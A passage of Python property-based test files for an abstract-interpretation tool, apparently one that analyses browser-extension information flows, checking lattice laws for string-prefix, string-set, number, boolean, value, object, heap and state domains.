    def test_leq_antisymmetric(self, a, b):
        if a.leq(b) and b.leq(a):
            assert a == b

    @given(_elements, _elements, _elements)
    def test_leq_transitive(self, a, b, c):
        if a.leq(b) and b.leq(c):
            assert a.leq(c)

    @given(_elements, _elements)
    def test_join_is_upper_bound(self, a, b):
        joined = a.join(b)
        assert a.leq(joined) and b.leq(joined)

    @given(_elements, _elements)
    def test_meet_is_lower_bound(self, a, b):
        met = a.meet(b)
        assert met.leq(a) and met.leq(b)

    @given(_elements, _elements)
    def test_meet_below_join(self, a, b):
        assert a.meet(b).leq(a.join(b))

    @given(_elements, _elements, _elements)
    def test_concat_monotone_left(self, a, b, c):
        if a.leq(b):
            assert a.concat(c).leq(b.concat(c))

    @given(_elements, _elements, _elements)
    def test_concat_monotone_right(self, a, b, c):
        if a.leq(b):
            assert c.concat(a).leq(c.concat(b))

    @given(_elements, _texts)
    def test_admits_consistent_with_leq(self, a, concrete):
        # If a admits s, anything above a also admits s.
        if a.admits(concrete):
            assert a.join(p.exact(concrete)).admits(concrete)

    @given(st.lists(_elements, min_size=1, max_size=8))
    def test_ascending_chains_stabilize(self, elements):
        # Noetherian: folding joins reaches a fixpoint no longer than the
        # first element's text (+2 for exactness loss and ⊤).
        current = elements[0]
        for element in elements[1:]:
            nxt = current.join(element)
            assert current.leq(nxt)
            current = nxt
        assert current.join(current) == current
