"""Tests for abstract objects, the heap, and state."""

from repro.domains import objects as o
from repro.domains import prefix as p
from repro.domains import values as v
from repro.domains.heap import Heap
from repro.domains.state import State
from repro.ir.nodes import GLOBAL_SCOPE, Var


def obj_with(**props):
    result = o.AbstractObject()
    for name, value in props.items():
        result = result.write(p.exact(name), value, strong=True)
    return result


class TestObjectReadWrite:
    def test_strong_write_then_read(self):
        obj = obj_with(a=v.from_constant(1.0))
        assert obj.read(p.exact("a")) == v.from_constant(1.0)

    def test_missing_property_is_undefined(self):
        obj = o.AbstractObject()
        assert obj.read(p.exact("nope")) == v.UNDEF

    def test_weak_write_joins(self):
        obj = obj_with(a=v.from_constant(1.0))
        obj = obj.write(p.exact("a"), v.from_constant(2.0), strong=False)
        value = obj.read(p.exact("a"))
        assert value.number.is_top

    def test_strong_write_replaces(self):
        obj = obj_with(a=v.from_constant(1.0))
        obj = obj.write(p.exact("a"), v.from_constant(2.0), strong=True)
        assert obj.read(p.exact("a")) == v.from_constant(2.0)

    def test_weak_write_to_absent_key_includes_undefined(self):
        obj = o.AbstractObject()
        obj = obj.write(p.exact("a"), v.from_constant(1.0), strong=False)
        value = obj.read(p.exact("a"))
        assert value.may_undef  # may not have been written

    def test_unknown_name_write_pollutes_all_admitted(self):
        obj = obj_with(url=v.from_constant("x"), other=v.from_constant("y"))
        obj = obj.write(p.TOP, v.from_constant(9.0), strong=False)
        assert not obj.read(p.exact("url")).number.is_bottom
        assert not obj.read(p.exact("other")).number.is_bottom

    def test_prefix_name_write_hits_only_admitted(self):
        obj = obj_with(url=v.from_constant("x"), id=v.from_constant("y"))
        obj = obj.write(p.prefix("ur"), v.from_constant(9.0), strong=False)
        assert not obj.read(p.exact("url")).number.is_bottom
        # "id" does not start with "ur" — but the unknown summary now
        # holds the written value, so reads of "id" see it joined in.
        # (Conservative; documents the behavior.)

    def test_unknown_name_read_joins_admitted_properties(self):
        obj = obj_with(a=v.from_constant("x"), b=v.from_constant("y"))
        value = obj.read(p.TOP)
        assert value.string.concrete() is None  # join of "x" and "y"
        assert value.may_undef  # might be any other (absent) property

    def test_delete_strong_removes(self):
        obj = obj_with(a=v.from_constant(1.0))
        obj = obj.delete(p.exact("a"), strong=True)
        assert obj.read(p.exact("a")) == v.UNDEF

    def test_delete_weak_adds_undefined(self):
        obj = obj_with(a=v.from_constant(1.0))
        obj = obj.delete(p.exact("a"), strong=False)
        value = obj.read(p.exact("a"))
        assert value.may_undef and not value.number.is_bottom


class TestObjectJoin:
    def test_join_property_present_both_sides(self):
        left = obj_with(a=v.from_constant(1.0))
        right = obj_with(a=v.from_constant(2.0))
        joined = left.join(right)
        assert joined.read(p.exact("a")).number.is_top

    def test_join_property_one_side_adds_undefined(self):
        left = obj_with(a=v.from_constant(1.0))
        right = o.AbstractObject()
        joined = left.join(right)
        value = joined.read(p.exact("a"))
        assert value.may_undef and value.number.concrete() == 1.0

    def test_join_preserves_kind_when_equal(self):
        left = o.AbstractObject(kind="array")
        right = o.AbstractObject(kind="array")
        assert left.join(right).kind == "array"

    def test_join_closures_union(self):
        joined = o.function_object(1).join(o.function_object(2))
        assert joined.closures == frozenset({1, 2})

    def test_leq_after_join(self):
        left = obj_with(a=v.from_constant(1.0))
        right = obj_with(b=v.from_constant(2.0))
        joined = left.join(right)
        assert left.leq(joined) and right.leq(joined)


class TestHeap:
    def test_first_allocation_is_singleton(self):
        heap = Heap()
        heap.allocate(10, o.AbstractObject())
        assert heap.is_singleton(10)

    def test_reallocation_loses_singleton(self):
        heap = Heap()
        heap.allocate(10, obj_with(a=v.from_constant(1.0)))
        heap.allocate(10, obj_with(a=v.from_constant(2.0)))
        assert not heap.is_singleton(10)
        assert heap.get(10).read(p.exact("a")).number.is_top

    def test_strong_write_on_singleton(self):
        heap = Heap()
        heap.allocate(10, obj_with(a=v.from_constant(1.0)))
        strong = heap.write(frozenset({10}), p.exact("a"), v.from_constant(2.0))
        assert strong
        assert heap.get(10).read(p.exact("a")) == v.from_constant(2.0)

    def test_weak_write_on_multiple_addresses(self):
        heap = Heap()
        heap.allocate(10, obj_with(a=v.from_constant(1.0)))
        heap.allocate(11, obj_with(a=v.from_constant(1.0)))
        strong = heap.write(
            frozenset({10, 11}), p.exact("a"), v.from_constant(2.0)
        )
        assert not strong
        assert heap.get(10).read(p.exact("a")).number.is_top

    def test_weak_write_on_inexact_name(self):
        heap = Heap()
        heap.allocate(10, obj_with(a=v.from_constant(1.0)))
        strong = heap.write(frozenset({10}), p.TOP, v.from_constant(2.0))
        assert not strong

    def test_read_joins_across_addresses(self):
        heap = Heap()
        heap.allocate(10, obj_with(a=v.from_constant("x")))
        heap.allocate(11, obj_with(a=v.from_constant("y")))
        value = heap.read(frozenset({10, 11}), p.exact("a"))
        assert value.string.concrete() is None

    def test_join_keeps_singleton_only_if_both_agree(self):
        left = Heap()
        left.allocate(10, o.AbstractObject())
        right = left.copy()
        right.allocate(10, o.AbstractObject())  # loses singleton on right
        joined = left.join(right)
        assert not joined.is_singleton(10)

    def test_join_singleton_on_one_side_only(self):
        left = Heap()
        left.allocate(10, o.AbstractObject())
        right = Heap()  # 10 not allocated here
        joined = left.join(right)
        assert joined.is_singleton(10)


class TestState:
    def test_unassigned_var_is_undefined(self):
        state = State()
        assert state.read_var(Var("x", GLOBAL_SCOPE)) == v.UNDEF

    def test_strong_write_replaces(self):
        state = State()
        x = Var("x", GLOBAL_SCOPE)
        state.write_var(x, v.from_constant(1.0))
        state.write_var(x, v.from_constant(2.0))
        assert state.read_var(x) == v.from_constant(2.0)

    def test_weak_write_joins_with_undefined_when_absent(self):
        state = State()
        x = Var("x", 3)
        state.write_var(x, v.from_constant(1.0), strong=False)
        value = state.read_var(x)
        assert value.may_undef and value.number.concrete() == 1.0

    def test_join_disagreeing_vars(self):
        x = Var("x", GLOBAL_SCOPE)
        left, right = State(), State()
        left.write_var(x, v.from_constant(1.0))
        right.write_var(x, v.from_constant("s"))
        joined = left.join(right)
        value = joined.read_var(x)
        assert not value.number.is_bottom and not value.string.is_bottom

    def test_leq_of_join(self):
        x = Var("x", GLOBAL_SCOPE)
        left, right = State(), State()
        left.write_var(x, v.from_constant(1.0))
        right.write_var(x, v.from_constant(2.0))
        joined = left.join(right)
        assert left.leq(joined) and right.leq(joined)

    def test_copy_isolates(self):
        x = Var("x", GLOBAL_SCOPE)
        state = State()
        state.write_var(x, v.from_constant(1.0))
        other = state.copy()
        other.write_var(x, v.from_constant(2.0))
        assert state.read_var(x) == v.from_constant(1.0)
