"""Property-based lattice laws for abstract objects and heaps."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.domains import objects as o
from repro.domains import prefix as p
from repro.domains import values as v
from repro.domains.heap import Heap

_values = st.one_of(
    st.just(v.UNDEF),
    st.builds(v.from_constant, st.text(alphabet="xy", max_size=3)),
    st.builds(v.from_constant, st.floats(allow_nan=False, width=16)),
    st.builds(v.from_addresses, st.integers(0, 3)),
)

_objects = st.builds(
    lambda props, unknown, kind: o.AbstractObject(
        kind=kind,
        properties=tuple(sorted(props.items())),
        unknown=unknown,
    ),
    st.dictionaries(st.sampled_from(["a", "b", "c"]), _values, max_size=3),
    st.one_of(st.just(v.BOTTOM), _values),
    st.sampled_from(["object", "array"]),
)


class TestObjectLatticeLaws:
    @settings(max_examples=80, deadline=None)
    @given(_objects, _objects)
    def test_join_commutative(self, a, b):
        assert a.join(b) == b.join(a)

    @settings(max_examples=80, deadline=None)
    @given(_objects)
    def test_join_idempotent(self, a):
        assert a.join(a) == a

    @settings(max_examples=80, deadline=None)
    @given(_objects, _objects, _objects)
    def test_join_associative(self, a, b, c):
        assert a.join(b).join(c) == a.join(b.join(c))

    @settings(max_examples=80, deadline=None)
    @given(_objects, _objects)
    def test_join_is_upper_bound(self, a, b):
        joined = a.join(b)
        assert a.leq(joined) and b.leq(joined)

    @settings(max_examples=80, deadline=None)
    @given(_objects, _objects, st.sampled_from(["a", "b", "z"]))
    def test_read_monotone_under_join(self, a, b, name):
        # Reading from the join sees at least what reading from each sees.
        joined = a.join(b)
        for source in (a, b):
            value = source.read(p.exact(name))
            assert value.leq(joined.read(p.exact(name)))

    @settings(max_examples=80, deadline=None)
    @given(_objects, st.sampled_from(["a", "z"]), _values)
    def test_weak_write_preserves_old_value(self, obj, name, value):
        written = obj.write(p.exact(name), value, strong=False)
        old = obj.read(p.exact(name))
        new = written.read(p.exact(name))
        assert old.leq(new)
        assert value.leq(new)

    @settings(max_examples=80, deadline=None)
    @given(_objects, st.sampled_from(["a", "z"]), _values)
    def test_strong_write_then_read_is_exact(self, obj, name, value):
        written = obj.write(p.exact(name), value, strong=True)
        result = written.read(p.exact(name))
        # Exact up to the unknown summary (which a strong write to one
        # name cannot clear).
        assert value.leq(result)
        assert result.leq(value.join(obj.unknown))


class TestHeapLaws:
    @settings(max_examples=50, deadline=None)
    @given(
        st.lists(st.tuples(st.integers(0, 3), _objects), max_size=4),
        st.lists(st.tuples(st.integers(0, 3), _objects), max_size=4),
    )
    def test_heap_join_upper_bound(self, left_allocs, right_allocs):
        left, right = Heap(), Heap()
        for address, obj in left_allocs:
            left.allocate(address, obj)
        for address, obj in right_allocs:
            right.allocate(address, obj)
        joined = left.join(right)
        assert left.leq(joined) and right.leq(joined)

    @settings(max_examples=50, deadline=None)
    @given(st.lists(st.tuples(st.integers(0, 3), _objects), max_size=4))
    def test_heap_join_idempotent(self, allocs):
        heap = Heap()
        for address, obj in allocs:
            heap.allocate(address, obj)
        joined = heap.join(heap)
        assert heap.leq(joined) and joined.leq(heap)
