"""Tests for the abstract value product domain."""

from hypothesis import given
from hypothesis import strategies as st

from repro.domains import bools, numbers
from repro.domains import prefix as p
from repro.domains import values as v
from repro.ir.nodes import UNDEFINED

_values = st.builds(
    v.AbstractValue,
    may_undef=st.booleans(),
    may_null=st.booleans(),
    boolean=st.builds(bools.AbstractBool, st.booleans(), st.booleans()),
    number=st.one_of(
        st.just(numbers.BOTTOM),
        st.just(numbers.TOP),
        st.builds(numbers.constant, st.floats(allow_nan=False, width=16)),
    ),
    string=st.one_of(
        st.just(p.BOTTOM),
        st.builds(p.exact, st.text(alphabet="ab", max_size=3)),
        st.builds(p.prefix, st.text(alphabet="ab", max_size=3)),
    ),
    addresses=st.frozensets(st.integers(0, 5), max_size=3),
)


class TestConstruction:
    def test_from_constant_undefined(self):
        value = v.from_constant(UNDEFINED)
        assert value.may_undef and not value.may_null

    def test_from_constant_null(self):
        value = v.from_constant(None)
        assert value.may_null and not value.may_undef

    def test_from_constant_bool(self):
        assert v.from_constant(True).boolean == bools.TRUE

    def test_from_constant_number(self):
        assert v.from_constant(4.0).number.concrete() == 4.0

    def test_from_constant_string(self):
        assert v.from_constant("hi").string == p.exact("hi")

    def test_from_addresses(self):
        assert v.from_addresses(1, 2).addresses == frozenset({1, 2})


class TestTruthiness:
    def test_undefined_is_falsy_only(self):
        assert v.UNDEF.may_be_falsy() and not v.UNDEF.may_be_truthy()

    def test_object_is_truthy_only(self):
        value = v.from_addresses(1)
        assert value.may_be_truthy() and not value.may_be_falsy()

    def test_zero_is_falsy_only(self):
        value = v.from_constant(0.0)
        assert value.may_be_falsy() and not value.may_be_truthy()

    def test_nonzero_is_truthy_only(self):
        value = v.from_constant(7.0)
        assert value.may_be_truthy() and not value.may_be_falsy()

    def test_empty_string_falsy(self):
        value = v.from_constant("")
        assert value.may_be_falsy() and not value.may_be_truthy()

    def test_unknown_string_both(self):
        value = v.ANY_STRING
        assert value.may_be_truthy() and value.may_be_falsy()

    def test_nonempty_prefix_is_truthy_only(self):
        # Any string starting with "ab" is nonempty.
        value = v.from_string(p.prefix("ab"))
        assert value.may_be_truthy()
        # NOTE: a prefix admits only extensions of itself; "ab…" can never
        # be "".
        assert not value.may_be_falsy()

    def test_join_of_number_and_undefined_both(self):
        value = v.from_constant(1.0).join(v.UNDEF)
        assert value.may_be_truthy() and value.may_be_falsy()


class TestPropertyAccess:
    def test_undefined_base_throws(self):
        assert v.UNDEF.may_throw_on_property_access()
        assert v.NULL.may_throw_on_property_access()

    def test_object_base_does_not_throw(self):
        assert not v.from_addresses(3).may_throw_on_property_access()

    def test_to_property_name_string(self):
        assert v.from_constant("url").to_property_name() == p.exact("url")

    def test_to_property_name_number(self):
        assert v.from_constant(0.0).to_property_name() == p.exact("0")

    def test_to_property_name_undefined(self):
        assert v.UNDEF.to_property_name() == p.exact("undefined")

    def test_to_property_name_mixed_is_joined(self):
        value = v.from_constant("a").join(v.from_constant("b"))
        assert value.to_property_name() == p.TOP

    def test_to_property_name_unknown_number(self):
        assert v.ANY_NUMBER.to_property_name() == p.TOP


class TestLattice:
    def test_bottom(self):
        assert v.BOTTOM.is_bottom
        assert not v.UNDEF.is_bottom

    @given(_values, _values)
    def test_join_commutative(self, a, b):
        assert a.join(b) == b.join(a)

    @given(_values, _values, _values)
    def test_join_associative(self, a, b, c):
        assert a.join(b).join(c) == a.join(b.join(c))

    @given(_values)
    def test_join_idempotent(self, a):
        assert a.join(a) == a

    @given(_values, _values)
    def test_join_upper_bound(self, a, b):
        assert a.leq(a.join(b)) and b.leq(a.join(b))

    @given(_values)
    def test_bottom_least(self, a):
        assert v.BOTTOM.leq(a)

    @given(_values, _values)
    def test_truthiness_monotone(self, a, b):
        joined = a.join(b)
        if a.may_be_truthy():
            assert joined.may_be_truthy()
        if a.may_be_falsy():
            assert joined.may_be_falsy()
