"""Prefix-domain edge cases the mainline tests skate past.

The empty exact string ``exact("")`` is a real element distinct from ⊤
(``prefix("")``): it denotes exactly the string ``""`` while ⊤ denotes
every string. These tests pin its lattice behavior, the absorbing/
identity behavior of ⊥ and ⊤ under concatenation, and how prefix-
widened signature entries order under ``entry_covers``/``subsumes``.
"""

import pytest

from repro.domains import prefix as p
from repro.signatures import entry_covers, subsumes
from repro.signatures.flowtypes import FlowType
from repro.signatures.signature import ApiEntry, FlowEntry, Signature

EMPTY = p.exact("")

pytestmark = pytest.mark.lint


class TestEmptyExactString:
    def test_distinct_from_top(self):
        assert EMPTY != p.TOP
        assert EMPTY.is_exact and not p.TOP.is_exact
        assert not EMPTY.is_top

    def test_strictly_below_top(self):
        assert EMPTY.leq(p.TOP)
        assert not p.TOP.leq(EMPTY)

    def test_admits_only_the_empty_string(self):
        assert EMPTY.admits("")
        assert not EMPTY.admits("a")
        assert p.TOP.admits("") and p.TOP.admits("a")

    def test_join_with_any_exact_is_top(self):
        # "" shares no nonempty prefix with "a", so the join widens to
        # the empty *prefix* — ⊤ — not the empty exact string.
        assert EMPTY.join(p.exact("a")) == p.TOP
        assert EMPTY.join(EMPTY) == EMPTY

    def test_join_with_prefix_is_top(self):
        assert EMPTY.join(p.prefix("http://")) == p.TOP

    def test_meet_with_top_is_itself(self):
        assert EMPTY.meet(p.TOP) == EMPTY
        assert p.TOP.meet(EMPTY) == EMPTY

    def test_meet_with_disjoint_exact_is_bottom(self):
        assert EMPTY.meet(p.exact("a")) == p.BOTTOM

    def test_concat_is_the_identity(self):
        for other in (p.exact("x"), p.prefix("http://"), p.TOP, EMPTY):
            assert EMPTY.concat(other) == other

    def test_overlaps_only_via_the_empty_string(self):
        assert EMPTY.overlaps(p.TOP)
        assert EMPTY.overlaps(p.prefix(""))
        assert not EMPTY.overlaps(p.exact("a"))
        assert not EMPTY.overlaps(p.prefix("a"))


class TestConcatWithExtremes:
    def test_bottom_absorbs_left_and_right(self):
        for other in (p.exact("a"), p.prefix("a"), p.TOP, p.BOTTOM, EMPTY):
            assert p.BOTTOM.concat(other) == p.BOTTOM
            assert other.concat(p.BOTTOM) == p.BOTTOM

    def test_top_on_the_left_swallows_the_right(self):
        # ⊤ is the empty prefix: appending anything is still "any string".
        assert p.TOP.concat(p.exact("tail")) == p.TOP
        assert p.TOP.concat(p.prefix("tail")) == p.TOP

    def test_exact_head_with_top_tail_widens_to_prefix(self):
        out = p.exact("http://a.example/").concat(p.TOP)
        assert out == p.prefix("http://a.example/")

    def test_prefix_head_discards_the_tail(self):
        out = p.prefix("http://").concat(p.exact("ignored"))
        assert out == p.prefix("http://")

    def test_concat_monotone_at_the_extremes(self):
        # ⊥ ⊑ exact("a") ⊑ prefix("a") ⊑ ⊤, mapped through concat.
        chain = [p.BOTTOM, p.exact("a"), p.prefix("a"), p.TOP]
        fixed = p.exact("h")
        for lower, upper in zip(chain, chain[1:], strict=False):
            assert fixed.concat(lower).leq(fixed.concat(upper))
            assert lower.concat(fixed).leq(upper.concat(fixed))


class TestPrefixWidenedEntries:
    """entry_covers/subsumes over prefix-widened signature entries —
    the order a degraded (⊤-widened) run's signature must win under."""

    def _flow(self, domain):
        return FlowEntry("url", FlowType.TYPE1, "send", domain)

    def test_prefix_entry_covers_its_exact_refinement(self):
        widened = self._flow(p.prefix("http://a.example/"))
        precise = self._flow(p.exact("http://a.example/collect"))
        assert entry_covers(widened, precise)
        assert not entry_covers(precise, widened)

    def test_top_entry_covers_everything_with_same_endpoints(self):
        top = self._flow(p.TOP)
        assert entry_covers(top, self._flow(p.exact("")))
        assert entry_covers(top, self._flow(p.prefix("http://")))

    def test_empty_exact_entry_covers_only_itself(self):
        empty = self._flow(EMPTY)
        assert entry_covers(empty, self._flow(EMPTY))
        assert not entry_covers(empty, self._flow(p.exact("x")))

    def test_api_entry_prefix_order(self):
        widened = ApiEntry("open", p.prefix("chrome://"))
        precise = ApiEntry("open", p.exact("chrome://browser/x.xul"))
        assert entry_covers(widened, precise)
        assert not entry_covers(precise, widened)

    def test_subsumes_with_widened_signature(self):
        widened = Signature(frozenset({
            self._flow(p.prefix("http://")),
            ApiEntry("open", p.TOP),
        }))
        precise = Signature(frozenset({
            self._flow(p.exact("http://a.example/c")),
            ApiEntry("open", p.exact("chrome://x")),
        }))
        assert subsumes(widened, precise)
        assert not subsumes(precise, widened)

    def test_empty_signature_subsumed_by_anything(self):
        assert subsumes(Signature(), Signature())
        assert subsumes(
            Signature(frozenset({self._flow(p.TOP)})), Signature()
        )
