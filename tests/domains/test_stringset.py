"""Tests for the k-bounded disjunctive string domain (extension)."""

from hypothesis import given
from hypothesis import strategies as st

from repro.domains import prefix as p
from repro.domains.stringset import StringSet

_texts = st.text(alphabet="abc/.", max_size=5)
_sets = st.one_of(
    st.just(StringSet.bottom()),
    st.just(StringSet.top()),
    st.builds(StringSet.exact, _texts),
    st.builds(StringSet.prefix, _texts),
    st.builds(
        lambda a, b: StringSet.exact(a).join(StringSet.exact(b)), _texts, _texts
    ),
)


class TestBasics:
    def test_bottom_and_top(self):
        assert StringSet.bottom().is_bottom
        assert StringSet.top().is_top
        assert not StringSet.exact("a").is_bottom

    def test_concretes_of_exact_set(self):
        value = StringSet.exact("a").join(StringSet.exact("b"))
        assert value.concretes() == {"a", "b"}

    def test_concretes_none_with_prefix_member(self):
        value = StringSet.exact("a").join(StringSet.prefix("b"))
        assert value.concretes() is None

    def test_admits(self):
        value = StringSet.exact("a").join(StringSet.prefix("b"))
        assert value.admits("a")
        assert value.admits("bcd")
        assert not value.admits("c")


class TestJoinBounding:
    def test_join_keeps_distinct_domains_within_bound(self):
        domains = ["vk.example/video", "sibnet.example/get", "rutube.example/api"]
        value = StringSet.bottom()
        for domain in domains:
            value = value.join(StringSet.exact(domain))
        assert value.concretes() == set(domains)

    def test_join_collapses_beyond_bound(self):
        value = StringSet.bottom(bound=2)
        for text in ("aa", "ab", "ac"):
            value = value.join(StringSet.exact(text, bound=2))
        # Over budget: degrades to the prefix-domain join (gcp = "a").
        assert value.collapse() == p.prefix("a")
        assert len(value.elements) == 1

    def test_subsumed_elements_dropped(self):
        value = StringSet.exact("abc").join(StringSet.prefix("ab"))
        # exact "abc" ⊑ prefix "ab": only the prefix survives.
        assert value.elements == frozenset({p.prefix("ab")})

    def test_vk_failure_mode_fixed(self):
        # The paper's VKVideoDownloader pattern: three unrelated domains.
        # The prefix domain loses everything; the set domain keeps all 3.
        hosts = [
            "vk.example/video_ext.php?oid=",
            "video.sibnet.example/shell.php?videoid=",
            "rutube.example/api/video/",
        ]
        prefix_result = p.BOTTOM
        set_result = StringSet.bottom()
        for host in hosts:
            prefix_result = prefix_result.join(p.exact(host))
            set_result = set_result.join(StringSet.exact(host))
        assert prefix_result == p.TOP  # the paper's fail
        assert set_result.concretes() == set(hosts)  # the fix


class TestConcat:
    def test_concat_distributes(self):
        left = StringSet.exact("http://").join(StringSet.exact("https://"))
        right = StringSet.exact("host.example")
        value = left.concat(right)
        assert value.concretes() == {
            "http://host.example", "https://host.example"
        }

    def test_concat_with_bottom(self):
        assert StringSet.exact("a").concat(StringSet.bottom()).is_bottom

    def test_concat_caps_blowup(self):
        left = StringSet.exact("aa").join(StringSet.exact("ab"))
        right = StringSet.exact("xa").join(StringSet.exact("xb"))
        value = left.concat(right)  # 4 combinations, bound 3
        assert len(value.elements) <= 3


class TestLatticeLaws:
    @given(_sets, _sets)
    def test_join_commutative(self, a, b):
        assert a.join(b) == b.join(a)

    @given(_sets)
    def test_join_idempotent(self, a):
        assert a.join(a) == a

    @given(_sets, _sets)
    def test_join_upper_bound(self, a, b):
        joined = a.join(b)
        assert a.leq(joined) and b.leq(joined)

    @given(_sets)
    def test_leq_reflexive(self, a):
        assert a.leq(a)

    @given(_sets, _sets, _sets)
    def test_leq_transitive(self, a, b, c):
        if a.leq(b) and b.leq(c):
            assert a.leq(c)

    @given(_sets, _sets)
    def test_meet_lower_bound(self, a, b):
        met = a.meet(b)
        assert met.leq(a) and met.leq(b)

    @given(_sets)
    def test_collapse_is_sound(self, a):
        # The prefix-domain collapse over-approximates the set.
        collapsed = a.collapse()
        for element in a.elements:
            assert element.leq(collapsed)

    @given(_sets, _sets)
    def test_set_domain_refines_prefix_domain(self, a, b):
        # Joining then collapsing is never more precise than collapsing
        # then joining — the set domain sits between concrete sets and
        # the prefix domain.
        joined_then = a.join(b).collapse()
        then_joined = a.collapse().join(b.collapse())
        assert joined_then.leq(then_joined) or joined_then == then_joined
