"""Tests for the boolean and number constant lattices."""

import math

from hypothesis import given
from hypothesis import strategies as st

from repro.domains import bools, numbers

_bools = st.builds(bools.AbstractBool, st.booleans(), st.booleans())
_numbers = st.one_of(
    st.just(numbers.BOTTOM),
    st.just(numbers.TOP),
    st.builds(numbers.constant, st.floats(allow_nan=False, width=32)),
    st.just(numbers.constant(float("nan"))),
)


class TestBools:
    def test_constants(self):
        assert bools.TRUE.concrete() is True
        assert bools.FALSE.concrete() is False
        assert bools.TOP.concrete() is None
        assert bools.BOTTOM.is_bottom

    def test_join(self):
        assert bools.TRUE.join(bools.FALSE) == bools.TOP
        assert bools.TRUE.join(bools.BOTTOM) == bools.TRUE

    def test_negate(self):
        assert bools.TRUE.negate() == bools.FALSE
        assert bools.TOP.negate() == bools.TOP
        assert bools.BOTTOM.negate() == bools.BOTTOM

    def test_from_bool(self):
        assert bools.from_bool(True) == bools.TRUE
        assert bools.from_bool(False) == bools.FALSE

    @given(_bools, _bools)
    def test_join_commutative(self, a, b):
        assert a.join(b) == b.join(a)

    @given(_bools, _bools)
    def test_join_upper_bound(self, a, b):
        assert a.leq(a.join(b)) and b.leq(a.join(b))

    @given(_bools, _bools)
    def test_meet_lower_bound(self, a, b):
        assert a.meet(b).leq(a) and a.meet(b).leq(b)

    @given(_bools)
    def test_double_negation(self, a):
        assert a.negate().negate() == a


class TestNumbers:
    def test_constant_roundtrip(self):
        assert numbers.constant(3.5).concrete() == 3.5

    def test_join_same_constant(self):
        assert numbers.constant(1).join(numbers.constant(1)) == numbers.constant(1)

    def test_join_distinct_constants_is_top(self):
        assert numbers.constant(1).join(numbers.constant(2)) == numbers.TOP

    def test_nan_equals_nan_in_lattice(self):
        nan = numbers.constant(float("nan"))
        assert nan.join(nan) == nan
        assert nan.leq(nan)

    def test_property_string_rendering(self):
        assert numbers.to_property_string(numbers.constant(0.0)) == "0"
        assert numbers.to_property_string(numbers.constant(1.5)) == "1.5"
        assert numbers.to_property_string(numbers.TOP) is None

    def test_arithmetic_on_constants(self):
        result = numbers.binary_op("+", numbers.constant(2), numbers.constant(3))
        assert result.concrete() == 5.0

    def test_arithmetic_with_top(self):
        result = numbers.binary_op("+", numbers.TOP, numbers.constant(3))
        assert result == numbers.TOP

    def test_arithmetic_with_bottom(self):
        result = numbers.binary_op("+", numbers.BOTTOM, numbers.constant(3))
        assert result == numbers.BOTTOM

    def test_js_division_by_zero(self):
        result = numbers.binary_op("/", numbers.constant(1), numbers.constant(0))
        assert result.concrete() == math.inf
        result = numbers.binary_op("/", numbers.constant(0), numbers.constant(0))
        assert math.isnan(result.concrete())

    def test_js_modulo(self):
        result = numbers.binary_op("%", numbers.constant(7), numbers.constant(3))
        assert result.concrete() == 1.0

    def test_bitwise_ops(self):
        assert numbers.binary_op(
            "&", numbers.constant(6), numbers.constant(3)
        ).concrete() == 2.0
        assert numbers.binary_op(
            "<<", numbers.constant(1), numbers.constant(4)
        ).concrete() == 16.0
        assert numbers.binary_op(
            ">>>", numbers.constant(-1), numbers.constant(28)
        ).concrete() == 15.0

    @given(_numbers, _numbers)
    def test_join_commutative(self, a, b):
        assert a.join(b) == b.join(a)

    @given(_numbers, _numbers, _numbers)
    def test_join_associative(self, a, b, c):
        assert a.join(b).join(c) == a.join(b.join(c))

    @given(_numbers, _numbers)
    def test_join_upper_bound(self, a, b):
        assert a.leq(a.join(b)) and b.leq(a.join(b))

    @given(_numbers, _numbers)
    def test_meet_lower_bound(self, a, b):
        assert a.meet(b).leq(a) and a.meet(b).leq(b)

    @given(_numbers)
    def test_bounds(self, a):
        assert numbers.BOTTOM.leq(a) and a.leq(numbers.TOP)
