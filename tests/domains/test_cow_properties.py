"""Copy-on-write aliasing properties of the machine state.

``State.copy`` is O(1) structure sharing over persistent maps, and the
interpreter's correctness rests on the aliasing discipline: mutating a
copy must never be observable through the original (in either
direction), and join/leq/copy on states that literally share trie nodes
must agree with what the seed's deep-copy semantics would compute.
Hypothesis drives randomized op sequences against both a shared-
structure state and an independently rebuilt deep clone and checks the
two worlds never diverge.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.domains import prefix as p
from repro.domains import values as v
from repro.domains.objects import AbstractObject
from repro.domains.state import State
from repro.ir.nodes import GLOBAL_SCOPE, Var

_values = st.one_of(
    st.just(v.UNDEF),
    st.just(v.NULL),
    st.just(v.ANY_STRING),
    st.builds(v.from_constant, st.text(alphabet="ab", max_size=3)),
    st.builds(v.from_constant, st.floats(allow_nan=False, width=16)),
    st.builds(v.from_constant, st.booleans()),
    st.builds(v.from_addresses, st.integers(0, 3)),
)

_names = st.text(alphabet="xyz", min_size=1, max_size=2)
_addresses = st.integers(0, 5)

#: One mutation step: variable writes (strong and weak), allocations,
#: property writes/deletes, and singleton demotion — every way the
#: interpreter mutates a state after copying it.
_ops = st.lists(
    st.one_of(
        st.tuples(st.just("write"), _names, _values, st.booleans()),
        st.tuples(st.just("alloc"), _addresses),
        st.tuples(st.just("heap_write"), _addresses, _values),
        st.tuples(st.just("heap_delete"), _addresses),
        st.tuples(st.just("drop_singleton"), _addresses),
    ),
    max_size=8,
)

_PROP = p.exact("p")


def _apply(state: State, ops) -> State:
    for op in ops:
        kind = op[0]
        if kind == "write":
            state.write_var(Var(op[1], GLOBAL_SCOPE), op[2], strong=op[3])
        elif kind == "alloc":
            state.heap.allocate(op[1], AbstractObject())
        elif kind == "heap_write":
            state.heap.write(frozenset([op[1]]), _PROP, op[2])
        elif kind == "heap_delete":
            state.heap.delete(frozenset([op[1]]), _PROP)
        elif kind == "drop_singleton":
            state.heap.drop_singleton(op[1])
    return state


def _build_state(ops) -> State:
    return _apply(State(), ops)


_states = st.builds(_build_state, _ops)


def _snapshot(state: State):
    """A value-level snapshot: every binding, object, and singleton flag.
    Abstract values and objects are immutable, so sharing them is safe —
    only the map structure can alias."""
    return (
        state.vars.to_dict(),
        state.heap.objects,
        state.heap.singletons,
    )


def _deep(state: State) -> State:
    """Rebuild an equal state sharing NO trie nodes with the input —
    the seed's deep-copy world, used as the semantics oracle."""
    clone = State()
    for key, value in sorted(state.vars.items()):
        clone.vars = clone.vars.set(key, value)
    for address in sorted(state.heap.addresses()):
        clone.heap.allocate(address, state.heap.get(address))
        if not state.heap.is_singleton(address):
            clone.heap.drop_singleton(address)
    return clone


class TestAliasing:
    @settings(max_examples=150, deadline=None)
    @given(_states, _ops)
